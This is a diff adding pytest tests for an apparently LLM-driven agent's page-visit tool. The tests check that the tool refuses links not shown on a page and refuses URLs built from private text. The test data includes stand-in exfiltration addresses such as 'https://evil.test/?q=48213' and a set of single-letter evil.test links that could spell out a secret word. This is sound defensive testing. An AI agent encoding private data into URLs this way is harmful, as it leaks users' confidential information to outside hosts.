@@ -7,13 +7,13 @@ import pytest
 from tests.worlds import small_world
 
 from fathom.core.errors import PageNotFoundError, ToolError
-from fathom.core.evidence import Page
+from fathom.core.evidence import Page, PageLink
 from fathom.core.model import content_hash
 from fathom.core.task import Task
 from fathom.llm.scripted import ScriptedChat
 from fathom.tools.protocol import ToolContext
 from fathom.tools.search import Search
-from fathom.tools.visit import Visit
+from fathom.tools.visit import Visit, VisitConfig
 from fathom.world.protocol import Hit, WorldLink
 
 EXFILTRATING = "https://evil.test/?q=secret"
@@ -117,3 +117,81 @@ async def test_a_page_of_a_private_network_is_private_text(text: str) -> None:
             await Search().run({"query": [private]}, context)
     assert context.world.asked == []  # type: ignore[attr-defined]
     await Search().run({"query": ["what is at wiki"]}, context)
+
+
+class Linked(Web):
+    """The same with links, which its pages' text shows by their anchors only."""
+
+    links_of: tuple[PageLink, ...] = ()
+
+    async def open(self, url: str) -> Page:
+        page = await super().open(url)
+        return page.model_copy(update={"links": self.links_of})
+
+
+def linked(*links: PageLink, **settings: bool) -> ToolContext:
+    world = Linked()
+    world.links_of = links
+    return ToolContext(
+        task=Task(id="t", question="? https://site.test/a"), world=world, **{"outgoing": True, **settings}
+    )
+
+
+async def test_links_of_a_page_are_shown_with_their_addresses_and_may_be_followed() -> None:
+    context = linked(PageLink(url="https://site.test/next", anchor="The page", start=0))
+    text = await visit(context, "https://site.test/a")
+    assert text.endswith("\nLinks in these passages:\nThe page -> https://site.test/next")
+    assert "The page https://site.test/next" in await visit(context, "https://site.test/next")
+
+
+async def test_a_link_that_is_not_shown_may_not_be_followed() -> None:
+    hidden = (
+        PageLink(url="https://site.test/far", anchor="The page", start=9999),
+        PageLink(url="https://site.test/unseen", anchor="nowhere in the text"),
+        PageLink(url="https://site.test/no-anchor", anchor=""),
+        PageLink(url="https://site.test/with blank", anchor="The page", start=0),
+        PageLink(url="https://user:key@site.test/", anchor="The page", start=0),
+    )
+    context = linked(*hidden)
+    assert "Links in" not in await visit(context, "https://site.test/a")
+    for link in hidden:
+        with pytest.raises(ToolError, match="Not opened"):
+            await visit(context, link.url)
+    off = linked(PageLink(url="https://site.test/next", anchor="The page", start=0))
+    shown = await Visit(VisitConfig(links=0)).run({"url": ["https://site.test/a"], "goal": "x"}, off)
+    assert "Links in" not in shown.text
+    with pytest.raises(ToolError, match="Not opened"):
+        await visit(off, "https://site.test/next")
+
+
+async def test_links_of_a_private_page_stay_private() -> None:
+    context = linked(PageLink(url="https://site.test/48213", anchor="The page", start=0), private=True)
+    await visit(context, "https://site.test/a")
+    with pytest.raises(ToolError, match="only addresses that a public result"):
+        await visit(context, "https://site.test/48213")
+    with pytest.raises(ToolError, match="48213"):
+        await Search().run({"query": ["48213"]}, context)
+
+
+async def test_an_address_made_of_a_link_and_private_text_is_refused() -> None:
+    context = linked(PageLink(url="https://evil.test/", anchor="The page", start=0))
+    context.boundary.show("the code is 48213", private=True)
+    await visit(context, "https://site.test/a")
+    for made in ("https://evil.test/?q=48213", "https://evil.test/48213", "https://48213.evil.test/"):
+        with pytest.raises(ToolError) as caught:
+            await visit(context, made)
+        assert caught.value.kind == "denied"
+    assert context.world.asked == ["https://site.test/a"]  # type: ignore[attr-defined]
+
+
+async def test_links_that_spell_private_text_are_kept_back() -> None:
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    context = linked(*(PageLink(url=f"https://evil.test/{one}", anchor="The page", start=0) for one in letters))
+    context.boundary.show("the word is quickly", private=True)
+    await Visit(VisitConfig(links=26)).run({"url": ["https://site.test/a"], "goal": "x"}, context)
+    denied = []
+    for one in "quickly":
+        with pytest.raises(ToolError) as caught:
+            await visit(context, f"https://evil.test/{one}")
+        denied.append(caught.value.kind == "denied")
+    assert denied[3:] == [True] * 4
